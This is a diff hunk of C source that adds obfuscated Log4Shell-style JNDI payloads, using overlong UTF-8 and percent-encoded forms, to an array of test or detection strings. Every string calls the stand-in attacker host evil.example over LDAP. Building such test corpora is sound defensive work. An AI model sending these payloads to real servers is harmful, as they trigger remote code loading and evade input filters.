@@ -176,6 +176,9 @@ static const struct hit hidden[] = {
 	{"%C0%A4%C1%BBjndi:ldap://evil.example:1389/a%C1%BD", HTTP_TARGET},
 	{"%e0%80%a4%f0%80%81%bbjndi%c0%baldap://evil.example:1389/a}", HTTP_TARGET},
 	{"\xc0\xa4{jndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"$\xc1\xbbjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"\xe0\x80\xa4\xe0\x81\xbbjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
+	{"\xf0\x80\x80\xa4\xf0\x80\x81\xbbjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
 	{"%25C0%25A4%25C1%25BBjndi:ldap://evil.example:1389/a}", HTTP_TARGET},
 	// what is the same on every Unix
 	{"${jndi${sys:path.separator}ldap:${sys:file.separator}/evil.example:1389/a}", HTTP_TARGET},
